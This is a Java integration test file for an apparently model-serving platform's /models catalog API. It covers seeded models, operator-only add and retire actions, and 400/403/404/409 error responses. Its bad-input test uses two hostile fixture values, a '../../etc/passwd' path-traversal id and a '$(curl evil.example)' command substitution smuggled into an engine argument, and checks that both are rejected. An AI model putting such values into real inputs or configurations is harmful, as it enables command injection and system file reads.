package io.athgrid.maas.catalog;

import static io.athgrid.maas.catalog.CatalogFixture.freshId;
import static io.athgrid.maas.catalog.CatalogFixture.seventyB;
import static io.athgrid.maas.catalog.CatalogFixture.with;
import static org.assertj.core.api.Assertions.assertThat;

import io.athgrid.maas.MaasIT;
import java.math.BigDecimal;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/** {@code /models}: the seeded catalog, operators adding and retiring models, problem+json refusals. */
class CatalogApiIT extends MaasIT {

    private static final List<String> SEEDED = List.of("meta-llama/Llama-3.1-8B-Instruct",
            "meta-llama/Llama-3.1-70B-Instruct", "Qwen/Qwen2.5-7B-Instruct", "Qwen/Qwen2.5-72B-Instruct",
            "deepseek-ai/DeepSeek-R1-Distill-Qwen-7B", "deepseek-ai/DeepSeek-R1-Distill-Llama-70B",
            "mistralai/Mistral-7B-Instruct-v0.3");

    @Test
    void the_seeded_catalog_offers_current_open_weight_models_to_every_signed_in_caller() {
        for (var caller : List.of(ENTERPRISE, WALLET, OPERATOR)) {
            HttpResponse<String> response = send("GET", "/models", null, caller);
            assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
            assertThat(ids(json(response))).containsAll(SEEDED);
        }

        JsonNode small = json(send("GET", "/models/meta-llama/Llama-3.1-8B-Instruct", null, ENTERPRISE));
        assertThat(small.path("contextLength").asInt()).isEqualTo(131_072);
        assertThat(small.path("servedContextLength").asInt()).isEqualTo(16_384);
        assertThat(small.path("vramGb").asInt()).isEqualTo(24);
        assertThat(small.path("gpusPerReplica").asInt()).isEqualTo(1);
        assertThat(small.path("usdPerMillionInputTokens").decimalValue()).isEqualByComparingTo("0.10");
        assertThat(small.path("usdPerMillionOutputTokens").decimalValue()).isEqualByComparingTo("0.15");
        assertThat(small.path("state").asString()).isEqualTo("ACTIVE");

        JsonNode large = json(send("GET", "/models/meta-llama/Llama-3.1-70B-Instruct", null, ENTERPRISE));
        assertThat(large.path("minGpuVramGb").asInt()).isEqualTo(80);
        assertThat(large.path("gpusPerReplica").asInt()).isEqualTo(4);
        assertThat(large.path("engine").asString()).isEqualTo("vllm");
        assertThat(large.path("engineArgs").get(0).asString()).isEqualTo("--tensor-parallel-size 4");
        assertThat(large.path("usdPerMillionOutputTokens").decimalValue()).isBetween(
                new BigDecimal("0.60"), new BigDecimal("0.90"));
    }

    @Test
    void every_seeded_model_keeps_the_catalog_rules() {
        for (JsonNode model : json(send("GET", "/models", null, OPERATOR))) {
            int gpus = model.path("gpusPerReplica").asInt();
            assertThat(gpus * model.path("minGpuVramGb").asInt()).as(model.path("id").asString())
                    .isGreaterThanOrEqualTo(model.path("vramGb").asInt());
            assertThat(model.path("vramGb").decimalValue()).as("bf16 weights fit")
                    .isGreaterThan(model.path("parametersBillions").decimalValue().multiply(
                            BigDecimal.valueOf(2)));
            assertThat(model.path("servedContextLength").asInt())
                    .isLessThanOrEqualTo(model.path("contextLength").asInt());
            if (gpus > 1) {
                assertThat(strings(model.path("engineArgs"))).contains("--tensor-parallel-size " + gpus);
            }
        }
    }

    @Test
    void an_operator_adds_a_model_that_everyone_then_reads() {
        String id = freshId();

        HttpResponse<String> created = send("POST", "/models", seventyB(id), OPERATOR);

        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        assertThat(created.headers().firstValue("Location")).hasValue("models/" + id);
        JsonNode model = json(created);
        assertThat(model.path("id").asString()).isEqualTo(id);
        assertThat(model.path("state").asString()).isEqualTo("ACTIVE");
        assertThat(model.path("addedAt").asString()).isNotBlank();
        assertThat(model.path("retiredAt").isNull()).isTrue();
        assertThat(model.path("servedContextLength").asInt()).isEqualTo(65_536);
        assertThat(model.path("usdPerMillionInputTokens").decimalValue()).isEqualByComparingTo("0.6");

        JsonNode read = json(send("GET", "/models/" + id, null, ENTERPRISE));
        assertThat(read).isEqualTo(model);
        assertThat(ids(json(send("GET", "/models", null, ENTERPRISE)))).contains(id);
    }

    @Test
    void an_id_the_catalog_holds_in_any_case_is_a_409_problem() {
        String id = freshId();
        assertThat(send("POST", "/models", seventyB(id), OPERATOR).statusCode()).isEqualTo(201);

        HttpResponse<String> same = send("POST", "/models", seventyB(id), OPERATOR);
        HttpResponse<String> otherCase = send("POST", "/models", seventyB(id.toUpperCase()), OPERATOR);
        HttpResponse<String> seeded = send("POST", "/models", with(seventyB("meta-llama/Llama-3.1-70B-Instruct"),
                "displayName", "again"), OPERATOR);

        for (HttpResponse<String> response : List.of(same, otherCase, seeded)) {
            assertThat(response.statusCode()).as(response.body()).isEqualTo(409);
            assertThat(contentType(response)).startsWith("application/problem+json");
        }
        assertThat(json(otherCase).path("detail").asString()).contains(id).contains("only in case");
        assertThat(rows("select count(*) from catalog_model where lower(id) = lower(?)", id)).isEqualTo(1);
    }

    @Test
    void bad_input_is_a_400_problem_naming_each_field_and_nothing_is_written() {
        long before = rows("select count(*) from catalog_model");
        String id = freshId();
        Map<String, Object> valid = seventyB(id);

        Map<String, HttpResponse<String>> refused = Map.of(
                "id", send("POST", "/models", with(valid, "id", "../../etc/passwd"), OPERATOR),
                "engineArgs[1]", send("POST", "/models", with(valid, "engineArgs",
                        List.of("--tensor-parallel-size 4", "--chat-template $(curl evil.example)")), OPERATOR),
                "engineArgs", send("POST", "/models", with(valid, "engineArgs", List.of("--tensor-parallel-size 2")),
                        OPERATOR),
                "usdPerMillionInputTokens", send("POST", "/models",
                        with(valid, "usdPerMillionInputTokens", new BigDecimal("0.1234567")), OPERATOR),
                "usdPerMillionOutputTokens", send("POST", "/models",
                        with(valid, "usdPerMillionOutputTokens", 0), OPERATOR),
                "vramGb", send("POST", "/models", with(valid, "vramGb", 400), OPERATOR),
                "engine", send("POST", "/models", with(valid, "engine", "ollama"), OPERATOR));

        refused.forEach((field, response) -> {
            assertThat(response.statusCode()).as(field + ": " + response.body()).isEqualTo(400);
            assertThat(contentType(response)).startsWith("application/problem+json");
            assertThat(json(response).path("errors").findValuesAsString("field")).as(field).contains(field);
        });
        HttpResponse<String> malformed = send("POST", "/models", "{\"id\": \"x\", \"contextLength\": \"long\"}",
                OPERATOR);
        HttpResponse<String> empty = send("POST", "/models", "{}", OPERATOR);
        assertThat(malformed.statusCode()).isEqualTo(400);
        assertThat(empty.statusCode()).isEqualTo(400);
        assertThat(json(empty).path("errors").findValuesAsString("field")).contains("id", "displayName", "family",
                "parametersBillions", "contextLength", "vramGb", "minGpuVramGb", "gpusPerReplica", "engine",
                "usdPerMillionInputTokens", "usdPerMillionOutputTokens");
        assertThat(rows("select count(*) from catalog_model")).isEqualTo(before);
    }

    @Test
    void only_operators_add_retire_or_list_retired_models() {
        String id = freshId();
        long before = rows("select count(*) from catalog_model");

        List<HttpResponse<String>> refused = List.of(
                send("POST", "/models", seventyB(id), ENTERPRISE),
                send("POST", "/models", seventyB(id), WALLET),
                send("POST", "/models/retire?id=meta-llama/Llama-3.1-8B-Instruct", null, ENTERPRISE),
                send("POST", "/models/retire?id=meta-llama/Llama-3.1-8B-Instruct", null, WALLET),
                send("GET", "/models?includeRetired=true", null, ENTERPRISE));

        for (HttpResponse<String> response : refused) {
            assertThat(response.statusCode()).as(response.body()).isEqualTo(403);
            assertThat(contentType(response)).startsWith("application/problem+json");
        }
        assertThat(rows("select count(*) from catalog_model")).isEqualTo(before);
        assertThat(rows("select count(*) from catalog_model where state = 'RETIRED' and id = ?",
                "meta-llama/Llama-3.1-8B-Instruct")).isZero();
        assertThat(send("GET", "/models", null, null).statusCode()).isEqualTo(401);
    }

    @Test
    void a_retired_model_is_no_longer_listed_but_stays_readable_and_retiring_is_one_way() {
        String id = freshId();
        assertThat(send("POST", "/models", seventyB(id), OPERATOR).statusCode()).isEqualTo(201);

        HttpResponse<String> retired = send("POST", "/models/retire?id=" + id, null, OPERATOR);

        assertThat(retired.statusCode()).as(retired.body()).isEqualTo(200);
        assertThat(json(retired).path("state").asString()).isEqualTo("RETIRED");
        assertThat(json(retired).path("retiredAt").asString()).isNotBlank();
        assertThat(ids(json(send("GET", "/models", null, ENTERPRISE)))).doesNotContain(id);
        assertThat(ids(json(send("GET", "/models", null, OPERATOR)))).doesNotContain(id);
        assertThat(ids(json(send("GET", "/models?includeRetired=true", null, OPERATOR)))).contains(id)
                .containsAll(SEEDED);
        JsonNode readable = json(send("GET", "/models/" + id, null, ENTERPRISE));
        assertThat(readable.path("state").asString()).isEqualTo("RETIRED");
        assertThat(readable.path("usdPerMillionOutputTokens").decimalValue()).isEqualByComparingTo("0.8");

        HttpResponse<String> again = send("POST", "/models/retire?id=" + id, null, OPERATOR);
        assertThat(again.statusCode()).isEqualTo(409);
        assertThat(json(again).path("detail").asString()).contains("already retired");
        assertThat(send("POST", "/models", seventyB(id), OPERATOR).statusCode()).as("ids are never reused")
                .isEqualTo(409);
    }

    @Test
    void unknown_and_malformed_ids_are_404_and_400_problems() {
        HttpResponse<String> unknown = send("GET", "/models/acme/no-such-model", null, ENTERPRISE);
        HttpResponse<String> malformed = send("GET", "/models/acme/x/y", null, ENTERPRISE);
        HttpResponse<String> retireUnknown = send("POST", "/models/retire?id=acme/no-such-model", null, OPERATOR);
        HttpResponse<String> retireWithoutId = send("POST", "/models/retire", null, OPERATOR);

        assertThat(unknown.statusCode()).isEqualTo(404);
        assertThat(contentType(unknown)).startsWith("application/problem+json");
        assertThat(json(unknown).path("detail").asString()).contains("acme/no-such-model");
        assertThat(malformed.statusCode()).isEqualTo(400);
        assertThat(json(malformed).path("errors").findValuesAsString("field")).containsExactly("id");
        assertThat(retireUnknown.statusCode()).isEqualTo(404);
        assertThat(retireWithoutId.statusCode()).isEqualTo(400);
        assertThat(contentType(retireWithoutId)).startsWith("application/problem+json");
        assertThat(send("GET", "/models?includeRetired=maybe", null, OPERATOR).statusCode()).isEqualTo(400);
    }

    private static List<String> ids(JsonNode models) {
        return StreamSupport.stream(models.spliterator(), false).map(model -> model.path("id").asString()).toList();
    }

    private static List<String> strings(JsonNode array) {
        return StreamSupport.stream(array.spliterator(), false).map(JsonNode::asString).toList();
    }
}
